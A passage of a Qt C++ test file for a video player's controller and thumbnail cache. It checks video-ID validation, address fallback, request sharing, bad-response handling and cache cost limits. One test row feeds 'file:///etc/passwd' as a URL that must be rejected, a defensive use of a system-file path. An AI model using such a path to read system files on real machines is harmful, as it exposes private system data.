                now += std::chrono::seconds(rest.toInt());
            else if (verb == u"pause")
                progress.paused();
            else if (verb == u"end")
                progress.ended();
            else if (verb == u"quit")
                progress.quit();
            else
                qFatal("unknown step %s", qPrintable(step));
        }
        QTEST(kept.join(u' '), "kept");
    }

    void startPositions()
    {
        QCOMPARE(WatchProgress::startPosition(false, 120), 120);
        QCOMPARE(WatchProgress::startPosition(true, 120), 0);
    }

    void aBridgeOutlivingItsControllerIsHarmless()
    {
        auto controller = std::make_unique<PlayerController>();
        Bridge bridge(*controller);
        controller.reset();
        bridge.postMessage(parsed(QStringLiteral(R"({"t":"ready"})")));
    }

    void playableIDs_data()
    {
        QTest::addColumn<QString>("id");
        QTest::addColumn<bool>("playable");
        QTest::newRow("YouTube ID") << u"dQw4w9WgXcQ"_qs << true;
        QTest::newRow("with - and _") << u"a-b_c-d_e"_qs << true;
        QTest::newRow("letters of other scripts") << u"видеоролик"_qs << true;
        QTest::newRow("x- record") << u"x-1234567"_qs << false;
        QTest::newRow("too short") << u"abcde"_qs << false;
        QTest::newRow("empty") << QString() << false;
        QTest::newRow("quote") << u"abc'def"_qs << false;
        QTest::newRow("backslash") << u"abc\\def"_qs << false;
        QTest::newRow("space") << u"abc def"_qs << false;
        QTest::newRow("line separator") << QString::fromUtf16(u"abcdef\u2028") << false;
        QTest::newRow("unpaired surrogate") << u"abcdef"_qs + QChar(0xD800) << false;
    }

    void playableIDs()
    {
        QFETCH(QString, id);
        QTEST(PlayerController::isPlayableID(id), "playable");
    }

    // The stored address when it is a web address, else the short link.
    void addresses_data()
    {
        QTest::addColumn<QString>("url");
        QTest::addColumn<QString>("expected");
        const QString stored = u"https://www.youtube.com/watch?v=dQw4w9WgXcQ"_qs;
        const QString shortLink = u"https://youtu.be/dQw4w9WgXcQ"_qs;
        QTest::newRow("stored link") << stored << stored;
        QTest::newRow("empty") << QString() << shortLink;
        QTest::newRow("not a web address") << u"file:///etc/passwd"_qs << shortLink;
        QTest::newRow("relative") << u"watch"_qs << shortLink;
    }
    void addresses()
    {
        QFETCH(QString, url);
        QTEST(PlayerController::videoAddress(u"dQw4w9WgXcQ"_qs, url).toString(), "expected");
    }

    void playerPageOnTheServiceOrigin()
    {
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"http://127.0.0.1:8470/api"_qs)).toString(),
                 u"http://127.0.0.1:8470/player.html"_qs);
        QCOMPARE(PlayerController::playerPageURL(QUrl(u"https://clipvane.example/sub/api/"_qs)).toString(),
                 u"https://clipvane.example/player.html"_qs);
    }

    void requestsForOneAddressAreShared()
    {
        ThumbCache cache(m_network);
        QObject rowA, rowB;
        QSignalSpy ready(&cache, &ThumbCache::ready);
        cache.request(address(1), &rowA);
        cache.request(address(1), &rowB);
        QCOMPARE(cache.fetchCount(), 1);
        QVERIFY(ready.wait());
        QCOMPARE(m_server.requestCount(), 1);
        QCOMPARE(cache.image(address(1)).size(), QSize(320, 180));
        QCOMPARE(cache.totalCost(), 230400);
        // Cached: a later request fetches nothing.
        cache.request(address(1), &rowA);
        QCOMPARE(cache.fetchCount(), 0);
    }

    void fetchesStartOnceTheFrameIsPainted()
    {
        // Rows ask while they are painted; the network is not touched until the event loop turns,
        // and a row that lets go before then costs no fetch at all.
        ThumbCache cache(m_network);
        QObject row, gone;
        QSignalSpy ready(&cache, &ThumbCache::ready);
        cache.request(address(1), &row);
        cache.request(address(2), &gone);
        cache.release(address(2), &gone);
        QVERIFY(cache.isFetching(address(1)));
        QVERIFY(!cache.isFetching(address(2)));
        QVERIFY(ready.wait());
        QCOMPARE(m_server.requestCount(), 1);
    }

    void badBodiesCacheNothing_data()
    {
        QTest::addColumn<int>("status");
        QTest::addColumn<QByteArray>("body");
        QTest::newRow("empty") << 200 << QByteArray();
        QTest::newRow("error page") << 200 << QByteArray("<html><body>Not here</body></html>");
        QTest::newRow("truncated image") << 200 << encoded({320, 180}).left(60);
        QTest::newRow("image with a 404") << 404 << QByteArray("nope");
        QTest::newRow("server error") << 500 << encoded({320, 180});
        QTest::newRow("too large") << 200 << QByteArray(ThumbCache::kMaxBodyBytes + 1, 'x');
    }

    void badBodiesCacheNothing()
    {
        QFETCH(int, status);
        QFETCH(QByteArray, body);
        m_server.setDefaultReply(imageReply(body, {}, status));
        ThumbCache cache(m_network);
        QObject row;
        QSignalSpy failed(&cache, &ThumbCache::failed);
        QSignalSpy ready(&cache, &ThumbCache::ready);
        cache.request(address(2), &row);
        QVERIFY(failed.wait());
        QCOMPARE(ready.count(), 0);
        QVERIFY(!cache.contains(address(2)));
        QCOMPARE(cache.totalCost(), 0);
        QCOMPARE(cache.fetchCount(), 0);
    }

    void theLastHolderLettingGoAbandonsTheFetch()
    {
        m_server.setDefaultReply(imageReply(encoded({320, 180}), std::chrono::seconds(5)));
        ThumbCache cache(m_network);
        QObject rowA, rowB;
        QSignalSpy ready(&cache, &ThumbCache::ready);
        QSignalSpy failed(&cache, &ThumbCache::failed);
        cache.request(address(3), &rowA);
        cache.request(address(3), &rowB);
        QTRY_COMPARE(m_server.requestCount(), 1);
        cache.release(address(3), &rowA);
        QVERIFY(cache.isFetching(address(3)));
        cache.release(address(3), &rowB);
        QVERIFY(!cache.isFetching(address(3)));
        QTest::qWait(100);
        QCOMPARE(ready.count() + failed.count(), 0);
        QVERIFY(!cache.contains(address(3)));
    }

    void costIsBounded()
    {
        ThumbCache cache(m_network);
        QImage thumb(320, 180, QImage::Format_ARGB32_Premultiplied);
        const int count = 300; // about 66 MiB of estimated pixels
        for (int n = 0; n < count; ++n)
            cache.store(thumb, address(1000 + n));
        QVERIFY(cache.totalCost() <= ThumbCache::kCostLimit);
        QVERIFY(cache.totalCost() > ThumbCache::kCostLimit - ThumbCache::costOf(thumb));
        QVERIFY(cache.contains(address(1000 + count - 1)));
        QVERIFY(!cache.contains(address(1000)));
        // Replacing an entry does not count it twice.
        const qsizetype before = cache.totalCost();
        cache.store(thumb, address(1000 + count - 1));
        QVERIFY(cache.totalCost() <= before);
        QVERIFY(cache.contains(address(1000 + count - 1)));
        // The cost is of the size in device-independent pixels.
        QImage doubled(640, 360, QImage::Format_ARGB32_Premultiplied);
        doubled.setDevicePixelRatio(2);
        QCOMPARE(ThumbCache::costOf(doubled), 230400);
    }

    void aListAsksOnlyForVisibleRowsAndLetsGoWhenScrolledAway()
    {
        m_server.setDefaultReply(imageReply(encoded({320, 180}), std::chrono::seconds(5)));
        ThumbCache cache(m_network);
        QList<QUrl> addresses;
        for (int n = 0; n < 200; ++n)
            addresses << address(n);
        ThumbList list(cache, addresses, 56 * 5);
        QVERIFY(QTest::qWaitForWindowExposed(&list.view));
        QTRY_VERIFY(cache.fetchCount() > 0);
        QVERIFY2(cache.fetchCount() <= 7, qPrintable(QString::number(cache.fetchCount())));
        QVERIFY(cache.isFetching(address(0)));

        list.view.scrollToBottom();
        QTRY_VERIFY(cache.isFetching(address(199)));
        QVERIFY(!cache.isFetching(address(0)));
        QCOMPARE(cache.fetchCount(), list.thumbs->wantedCount());
        QVERIFY(cache.fetchCount() <= 7);
    }

    void anArrivingImageRepaintsItsRow()
    {
        ThumbCache cache(m_network);
        ThumbList list(cache, {address(7)}, 200);
        QVERIFY(QTest::qWaitForWindowExposed(&list.view));
        QTRY_VERIFY(cache.contains(address(7)));
        QTRY_COMPARE(list.thumbs->wantedCount(), 0);
        // The repainted row shows the image (red) instead of the placeholder.
        QTRY_COMPARE(list.view.viewport()->grab().toImage().pixelColor(43, 24), QColor(Qt::red));
    }
};

QTEST_MAIN(PlayerTest)
#include "PlayerTest.moc"
